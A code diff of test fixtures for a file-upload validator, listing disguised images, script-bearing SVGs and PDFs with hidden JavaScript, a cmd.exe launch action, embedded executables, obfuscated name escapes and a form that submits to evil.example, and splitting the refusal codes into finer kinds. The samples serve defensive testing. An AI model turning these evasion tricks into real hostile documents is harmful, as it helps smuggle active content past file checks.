@@ -1,5 +1,6 @@
 import sharp from 'sharp'
 import type { Refusal } from '#app/files/refusal.ts'
+import { badScans } from './bad-scans.ts'
 import { claimedPng, jpeg, movingPng, png } from './image-samples.ts'
 import { flate, noise, objectStream, packedPdf, pdf, stream } from './pdf-samples.ts'
 
@@ -34,11 +35,12 @@ async function badImages(): Promise<Bad[]> {
     ['an SVG with a script', 'wrongType', 'a.svg', text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
     ['an SVG called a picture', 'mismatch', 'a.png', text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
     ['a web page called a picture', 'mismatch', 'a.jpg', text('<!doctype html><script>alert(1)</script>')],
-    ['a GIF', 'wrongType', 'a.gif', gif],
+    ['a WebP', 'wrongType', 'a.webp', webp],
+    ['a bitmap', 'wrongType', 'a.bmp', tinyBmp],
     ['a GIF called a JPEG', 'mismatch', 'a.jpg', gif],
     ['a GIF that is a script as well', 'mismatch', 'a.png', text('GIF89a/*\0\0*/=1;alert(1)')],
     ['a WebP called a JPEG', 'mismatch', 'a.jpeg', webp],
-    ['a TIFF', 'wrongType', 'scan.tiff', tiff],
+    ['a TIFF called a JPEG', 'mismatch', 'scan.jpg', tiff],
     ['a bitmap called a PNG', 'mismatch', 'a.png', tinyBmp],
     ['an icon called a PNG', 'mismatch', 'a.png', icon],
     ['a JPEG called PNG', 'mismatch', 'a.png', photo],
@@ -74,7 +76,7 @@ async function badImages(): Promise<Bad[]> {
     ['a PNG with noise inside', 'damaged', 'a.png', Buffer.concat([drawing.subarray(0, 60), noise(400)])],
     ['a flood of pixels', 'tooManyPixels', 'a.png', claimedPng(30_000, 30_000)],
     ['a picture just over the limit', 'tooManyPixels', 'a.png', await png(8000, 5001)],
-    ['a moving PNG', 'mismatch', 'a.png', await movingPng()],
+    ['a moving PNG', 'moving', 'a.png', await movingPng()],
   ]
 }
 
@@ -96,31 +98,34 @@ function badNames(good: Buffer): Bad[] {
 }
 
 function activePdfs(): Bad[] {
-  const active = (what: string, bytes: Uint8Array): Bad => [what, 'pdfActive', 'letter.pdf', bytes]
+  const refused =
+    (refusal: Refusal) =>
+    (what: string, bytes: Uint8Array): Bad => [what, refusal, 'letter.pdf', bytes]
+  const [active, script, launch, attached] = [refused('pdfActive'), refused('pdfScript'), refused('pdfLaunch'), refused('pdfAttached')]
   return [
-    active('a script on opening', pdf({ catalog: `/OpenAction ${js}` })),
-    active('a script in another object', pdf({ catalog: '/OpenAction 900 0 R', objects: [`900 0 obj\n${js}\nendobj\n`] })),
-    active('a script in the tree of names', pdf({ catalog: '/Names << /JavaScript 900 0 R >>' })),
-    active('a script whose name is escaped', pdf({ catalog: '/AA << /WC << /S /J#61vaScr#69pt /J#53 (x) >> >>' })),
-    active('a script behind an escaped key', pdf({ objects: ['900 0 obj\n<< /#4a#53 (app.alert) >>\nendobj\n'] })),
+    script('a script on opening', pdf({ catalog: `/OpenAction ${js}` })),
+    script('a script in another object', pdf({ catalog: '/OpenAction 900 0 R', objects: [`900 0 obj\n${js}\nendobj\n`] })),
+    script('a script in the tree of names', pdf({ catalog: '/Names << /JavaScript 900 0 R >>' })),
+    script('a script whose name is escaped', pdf({ catalog: '/AA << /WC << /S /J#61vaScr#69pt /J#53 (x) >> >>' })),
+    script('a script behind an escaped key', pdf({ objects: ['900 0 obj\n<< /#4a#53 (app.alert) >>\nendobj\n'] })),
     active('a comment between key and value', pdf({ objects: ['900 0 obj\n<< /S%x\n/JavaScript >>\nendobj\n'] })),
-    active('no white space between names', pdf({ objects: ['900 0 obj<</S/JavaScript/JS(x)>>endobj\n'] })),
+    script('no white space between names', pdf({ objects: ['900 0 obj<</S/JavaScript/JS(x)>>endobj\n'] })),
     active('the kind of action in another object', pdf({ objects: ['900 0 obj\n<< /S 901 0 R >>\nendobj\n901 0 obj\n/Launch\nendobj\n'] })),
-    active('a program to launch', pdf({ objects: ['900 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n'] })),
+    launch('a program to launch', pdf({ objects: ['900 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n'] })),
     active('a form that sends', pdf({ objects: ['900 0 obj\n<< /S /SubmitForm /F (https://evil.example) >>\nendobj\n'] })),
-    active('an attached file', pdf({ objects: [stream(900, '/Type /EmbeddedFile', 'MZ...')] })),
-    active(
+    attached('an attached file', pdf({ objects: [stream(900, '/Type /EmbeddedFile', 'MZ...')] })),
+    attached(
       'an attached file without a type',
       pdf({ objects: ['900 0 obj\n<< /Type /Filespec /F (a.exe) /EF << /F 901 0 R >> >>\nendobj\n'] }),
     ),
-    active('a tree of attached files', pdf({ catalog: '/Names << /EmbeddedFiles << /Names [(a) 900 0 R] >> >>' })),
+    attached('a tree of attached files', pdf({ catalog: '/Names << /EmbeddedFiles << /Names [(a) 900 0 R] >> >>' })),
     active('rich media', pdf({ objects: ['900 0 obj\n<< /Type /Annot /Subtype /RichMedia >>\nendobj\n'] })),
     active('an XFA form', pdf({ catalog: '/AcroForm << /XFA [(template) 900 0 R] >>' })),
     active('a web address opened by itself', pdf({ catalog: '/OpenAction << /S /URI /URI (https://evil.example) >>' })),
-    active('a link that is a script', pdf({ objects: ['900 0 obj\n<< /S /URI /URI (javascript:alert\\(1\\)) >>\nendobj\n'] })),
-    active('a script in a packed object', packedPdf({ 7: js })),
-    active('a script in a packed object with escapes', packedPdf({ 7: '<< /S /Java#53cript /J#53 (x) >>' })),
-    active(
+    script('a link that is a script', pdf({ objects: ['900 0 obj\n<< /S /URI /URI (javascript:alert\\(1\\)) >>\nendobj\n'] })),
+    script('a script in a packed object', packedPdf({ 7: js })),
+    script('a script in a packed object with escapes', packedPdf({ 7: '<< /S /Java#53cript /J#53 (x) >>' })),
+    launch(
       'a launch in a packed object that is not declared',
       pdf({ objects: [stream(900, '/N 1 /First 4 /Filter /FlateDecode', flate('7 0 << /S /Launch /F (cmd.exe) >>'))] }),
     ),
@@ -140,11 +145,11 @@ function activePdfs(): Bad[] {
       'packed objects that are not what they say',
       pdf({ objects: [stream(900, '/Type /ObjStm /N 40 /First 4 /Filter /FlateDecode', flate(`7 0 ${js}`))] }),
     ),
-    active(
+    script(
       'objects hidden in a picture',
       pdf({ objects: [stream(900, '/Subtype /Image /Filter /DCTDecode', `xx 7 0 obj << /JS (x) >> endobj xx`)] }),
     ),
-    active(
+    script(
       'packed objects inside another stream',
       pdf({ objects: [`900 0 obj (a stream \n of words)\nendobj\n`, objectStream(901, { 7: js })] }),
     ),
@@ -185,5 +190,5 @@ function badPdfs(): Bad[] {
 }
 
 export async function badFiles(): Promise<Bad[]> {
-  return [...(await badImages()), ...badNames(await jpeg()), ...badPdfs(), ...activePdfs()]
+  return [...(await badScans()), ...(await badImages()), ...badNames(await jpeg()), ...badPdfs(), ...activePdfs()]
 }
